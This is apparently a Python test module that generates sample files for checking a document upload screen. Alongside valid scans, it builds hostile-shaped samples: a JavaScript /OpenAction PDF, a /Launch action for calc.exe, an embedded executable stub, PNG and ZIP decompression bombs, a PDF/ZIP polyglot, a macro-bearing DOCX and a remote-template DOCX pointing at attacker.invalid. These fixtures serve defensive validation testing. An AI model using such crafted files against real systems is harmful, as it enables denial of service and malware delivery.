"""Sample documents for testing an upload screen without real scans: deterministic, fast, one call each.

Every generator returns a :class:`Sample` (``name``, ``data``; ``sample.write(directory)`` saves it)::

    from egisz_sdk.testing import documents as samples

    samples.portfolio_pdf().data[:8]      # b'%PDF-1.7'
    samples.low_dpi_pdf().name            # 'portfolio_Иванов.pdf' — page 2 is a 150 dpi scan

PDFs, PNGs, DOCX and ZIP files are written with the standard library only; JPEG samples need Pillow (the
``documents`` extra). The same arguments always give the same bytes.
"""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import attrs

__all__ = [
    "Sample",
    "active_pdf",
    "docx",
    "encrypted_pdf",
    "external_relationship_docx",
    "javascript_pdf",
    "jpeg",
    "low_dpi_pdf",
    "macro_docx",
    "mislabeled_png",
    "oversize_jpeg",
    "pdf",
    "png",
    "png_bomb",
    "polyglot",
    "portfolio_pdf",
    "renamed_zip",
    "text_pdf",
    "zip_bomb",
    "zip_entries",
]

A4_POINTS = (595.28, 841.89)
A4_INCHES = (210 / 25.4, 297 / 25.4)
MiB = 1024 * 1024


@attrs.frozen
class Sample:
    """A generated file: its suggested ``name`` and its bytes."""

    name: str
    data: bytes = attrs.field(repr=lambda d: f"<{len(d)} bytes>")

    def write(self, directory: str | Path, name: str | None = None) -> Path:
        """Save the sample under ``directory`` (as ``name`` or :attr:`name`) and return the path."""
        path = Path(directory) / (name or self.name)
        path.write_bytes(self.data)
        return path


# ----------------------------------------------------------------------------------------------- PDF writer


def _stream(header: bytes, data: bytes) -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), header) + data + b"\nendstream"


def _write_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def _scan_pixels(width: int, height: int, noise_rows: int, seed: int) -> bytes:
    """A grey page that looks like lines of text: dark stripes every 12 rows, optional random rows on top."""
    white = b"\xff" * width
    text = (b"\x20\x30\xff\x40\xff\xff\x10\xff" * (width // 8 + 1))[:width]
    rows = [text if (r // 4) % 3 == 0 and 60 < r % 400 < 360 else white for r in range(height)]
    if noise_rows:
        rng = random.Random(seed)
        rows[:noise_rows] = [rng.randbytes(width) for _ in range(min(noise_rows, height))]
    return b"".join(rows)


def pdf(
    pages: list[int | None] | None = None,
    *,
    extra_catalog: bytes = b"",
    extra_objects: list[bytes] | None = None,
    noise_bytes: int = 0,
    name: str = "portfolio_Иванов.pdf",
) -> Sample:
    """A PDF whose page ``i`` is an A4 scan at ``pages[i]`` dpi (``None``: a text page without images).

    ``extra_catalog`` is added to the catalogue dictionary (object 1) and ``extra_objects`` are numbered after the
    page objects (``len(pages) * 3 + 3`` onwards); ``noise_bytes`` of random rows make the file that much larger.
    """
    pages = [300] if pages is None else pages
    count = len(pages)
    kids = b" ".join(b"%d 0 R" % (3 + 3 * i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    ]
    noise_per_page = noise_bytes // max(1, sum(1 for p in pages if p))
    for index, dpi in enumerate(pages):
        content_no, image_no = 4 + 3 * index, 5 + 3 * index
        if dpi:
            width, height = round(A4_INCHES[0] * dpi), round(A4_INCHES[1] * dpi)
            pixels = _scan_pixels(width, height, -(-noise_per_page // width) if noise_bytes else 0, index)
            image = _stream(
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
                b"/Filter /FlateDecode " % (width, height),
                zlib.compress(pixels, 6),
            )
            content = b"q %.2f 0 0 %.2f 0 0 cm /Im1 Do Q" % A4_POINTS
            resources = b"<< /XObject << /Im1 %d 0 R >> >>" % image_no
        else:
            image = b"<< >>"
            content = b"BT /F1 12 Tf 72 760 Td (Portfolio report) Tj ET"
            resources = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %.2f %.2f] /Resources %s /Contents %d 0 R >>"
            % (*A4_POINTS, resources, content_no)
        )
        objects.append(_stream(b"", content))
        objects.append(image)
    objects += extra_objects or []
    return Sample(name, _write_pdf(objects))


def portfolio_pdf(pages: int = 1, dpi: int = 300) -> Sample:
    """A valid portfolio: ``pages`` A4 scans at ``dpi`` (300 by default)."""
    return pdf([dpi] * pages)


def low_dpi_pdf(dpi: int = 150, pages: int = 2, low_page: int = 2) -> Sample:
    """A 300 dpi portfolio in which page ``low_page`` is a ``dpi`` scan (the check names that page and figure)."""
    return pdf([dpi if i + 1 == low_page else 300 for i in range(pages)])


def text_pdf(pages: int = 1, name: str = "application_Иванов.pdf") -> Sample:
    """A PDF with text pages only (no raster images)."""
    return pdf([None] * pages, name=name)


def active_pdf(kind: str = "javascript") -> Sample:
    """A one-page text PDF with active content: ``javascript`` (an /OpenAction script), ``launch``,
    ``embedded_file``, ``xfa`` or ``page_action`` (/AA on the catalogue)."""
    n = 6  # first free object number after one text page
    bodies = {
        "javascript": (b"/OpenAction %d 0 R" % n, [b"<< /S /JavaScript /JS (app.alert\\('hi'\\);) >>"]),
        "launch": (b"/OpenAction %d 0 R" % n, [b"<< /S /Launch /F (calc.exe) >>"]),
        "embedded_file": (
            b"/Names << /EmbeddedFiles << /Names [(a.exe) %d 0 R] >> >>" % n,
            [
                b"<< /Type /Filespec /F (a.exe) /EF << /F %d 0 R >> >>" % (n + 1),
                _stream(b"/Type /EmbeddedFile ", b"MZ"),
            ],
        ),
        "xfa": (b"/AcroForm << /Fields [] /XFA %d 0 R >>" % n, [_stream(b"", b"<xdp:xdp/>")]),
        "page_action": (b"/AA << /WC %d 0 R >>" % n, [b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
    }
    catalog, objects = bodies[kind]
    return pdf([None], extra_catalog=catalog + b" ", extra_objects=objects, name="application_Иванов.pdf")


def javascript_pdf() -> Sample:
    """A PDF that runs JavaScript when opened."""
    return active_pdf("javascript")


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def encrypted_pdf(owner_password: bytes = b"owner") -> Sample:
    """A text PDF encrypted with the standard security handler (RC4 40-bit, revision 2, empty user password)."""
    ident = hashlib.md5(b"egisz-sdk sample").digest()
    owner_key = hashlib.md5((owner_password + _PAD)[:32]).digest()[:5]
    owner = _rc4(owner_key, _PAD)  # the padded empty user password
    perms = -44
    key = hashlib.md5(_PAD + owner + struct.pack("<i", perms) + ident).digest()[:5]
    user = _rc4(key, _PAD)
    content = b"BT /F1 12 Tf 72 760 Td (Secret) Tj ET"
    object_key = hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        _stream(b"", _rc4(object_key, content)),
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (owner.hex().encode(), user.hex().encode(), perms),
    ]
    trailer = b"/Encrypt 5 0 R /ID [<%s> <%s>] " % (ident.hex().encode(), ident.hex().encode())
    return Sample("passport_Иванов.pdf", _write_pdf(objects, trailer))


# ----------------------------------------------------------------------------------------------- images


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 2480, height: int = 3508, dpi: int | None = 300, name: str = "passport_Иванов.png") -> Sample:
    """A greyscale PNG scan (standard library only); ``dpi`` is written as a pHYs chunk when given."""
    raw = b"".join(b"\x00" + row for row in _rows(width, height))
    chunks = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    if dpi:
        per_metre = round(dpi / 0.0254)
        chunks += _png_chunk(b"pHYs", struct.pack(">IIB", per_metre, per_metre, 1))
    chunks += _png_chunk(b"IDAT", zlib.compress(raw, 6)) + _png_chunk(b"IEND", b"")
    return Sample(name, b"\x89PNG\r\n\x1a\n" + chunks)


def png_bomb(width: int = 8_000, height: int = 8_000, name: str = "passport_Иванов.png") -> Sample:
    """A small PNG (1-bit, all white) that would decode to ``width × height`` pixels: a decompression bomb."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(1)
    body = b"".join(packer.compress(row * 100) for _ in range(height // 100))
    body += packer.compress(row * (height % 100)) + packer.flush()
    chunks = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    chunks += _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")
    return Sample(name, b"\x89PNG\r\n\x1a\n" + chunks)


def _rows(width: int, height: int) -> list[bytes]:
    pixels = _scan_pixels(width, height, 0, 0)
    return [pixels[r * width : (r + 1) * width] for r in range(height)]


def jpeg(
    width: int = 1240, height: int = 1754, dpi: int | None = 150, quality: int = 85, name: str = "diploma_Иванов.jpg"
) -> Sample:
    """A greyscale JPEG scan (needs Pillow); ``dpi`` goes into the JFIF header when given."""
    from PIL import Image

    image = Image.frombytes("L", (width, height), _scan_pixels(width, height, 0, 0))
    out = io.BytesIO()
    options = {"dpi": (dpi, dpi)} if dpi else {}
    image.save(out, "JPEG", quality=quality, **options)
    return Sample(name, out.getvalue())


def oversize_jpeg(size: int = 6 * MiB, name: str = "diploma_Иванов.jpg") -> Sample:
    """A valid JPEG of at least ``size`` bytes (a noisy 300 dpi scan, padded with comment segments)."""
    from PIL import Image

    rng = random.Random(6)
    width, height = 1600, 1200
    image = Image.frombytes("L", (width, height), rng.randbytes(width * height))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, dpi=(300, 300))
    data = out.getvalue()
    missing = max(0, size - len(data))
    segment = b"\xff\xfe" + struct.pack(">H", 65_535) + b"\x00" * 65_533
    padding = segment * (missing // len(segment) + 1)
    return Sample(name, data[:2] + padding + data[2:])


def mislabeled_png() -> Sample:
    """A PNG named ``.jpg``: the check reports the extension and the content."""
    return Sample("diploma_Иванов.jpg", png(1240, 1754, 150).data)


# ----------------------------------------------------------------------------------------------- DOCX and ZIP

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(entries: list[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for path, body in entries:
            info = zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compress
            archive.writestr(info, body)
    return out.getvalue()


def docx(
    *,
    macro: bool = False,
    macro_content_type: bool = False,
    external: bool = False,
    hyperlink: bool = False,
    name: str = "contract_Иванов.docx",
) -> Sample:
    """A minimal Word document; ``macro`` adds ``word/vbaProject.bin`` (``macro_content_type`` also declares the
    main part macro-enabled, i.e. a DOCM), ``external`` a remote template relationship, ``hyperlink`` a link."""
    main = _WORD_MACRO if macro_content_type else _WORD
    overrides = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    rels = []
    entries: list[tuple[str, bytes]] = []
    if macro:
        overrides += '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        rels.append(f'<Relationship Id="rId9" Type="{vba}" Target="vbaProject.bin"/>')
        entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504))
    if external:
        target = 'Target="http://attacker.invalid/t.dotm" TargetMode="External"'
        rels.append(f'<Relationship Id="rId8" Type="{_R}/attachedTemplate" {target}/>')
    if hyperlink:
        target = 'Target="https://minzdrav.gov.ru/" TargetMode="External"'
        rels.append(f'<Relationship Id="rId7" Type="{_R}/hyperlink" {target}/>')
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + overrides + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Договор № 1</w:t></w:r></w:p></w:body></w:document>"
    )
    doc_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rels)
        + "</Relationships>"
    )
    files = [
        ("[Content_Types].xml", types.encode()),
        ("_rels/.rels", root_rels.encode()),
        ("word/document.xml", body.encode()),
        ("word/_rels/document.xml.rels", doc_rels.encode()),
        *entries,
    ]
    return Sample(name, _zip(files))


def macro_docx() -> Sample:
    """A ``.docx`` that carries a VBA project (``word/vbaProject.bin``)."""
    return docx(macro=True)


def external_relationship_docx() -> Sample:
    """A ``.docx`` that loads a remote template (``TargetMode="External"``, the template-injection trick)."""
    return docx(external=True)


def renamed_zip() -> Sample:
    """A plain ZIP archive named ``.docx``."""
    return Sample("contract_Иванов.docx", _zip([("scan.txt", b"not a document\n")]))


def zip_bomb(uncompressed: int = 16 * MiB, entries: int = 1, name: str = "contract_Иванов.docx") -> Sample:
    """A ZIP whose ``entries`` entries each inflate to ``uncompressed`` bytes of zeros (ratio ~1000:1)."""
    chunk = zlib.compressobj(1, zlib.DEFLATED, -15)
    zeros = b"\0" * MiB
    body = (
        b"".join(chunk.compress(zeros) for _ in range(uncompressed // MiB))
        + chunk.compress(b"\0" * (uncompressed % MiB))
        + chunk.flush()
    )
    crc = 0
    for _ in range(uncompressed // MiB):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(b"\0" * (uncompressed % MiB), crc)
    out = bytearray()
    central = bytearray()
    for index in range(entries):
        path = f"word/media/image{index}.bin".encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5821, crc, len(body), uncompressed, len(path), 0)
        out += path + body
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x5821,
            crc,
            len(body),
            uncompressed,
            len(path),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += path
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), start, 0)
    return Sample(name, bytes(out))


def zip_entries(count: int = 2000, name: str = "contract_Иванов.docx") -> Sample:
    """A ZIP with ``count`` tiny entries (the entry-count bound)."""
    return Sample(name, _zip([(f"word/part{i}.xml", b"<a/>") for i in range(count)], zipfile.ZIP_STORED))


def polyglot() -> Sample:
    """A file that is a valid PDF and a valid ZIP at once (a ZIP appended after ``%%EOF``)."""
    inner = _zip([("payload.txt", b"hidden\n")])
    return Sample("portfolio_Иванов.pdf", text_pdf(name="portfolio_Иванов.pdf").data + inner)
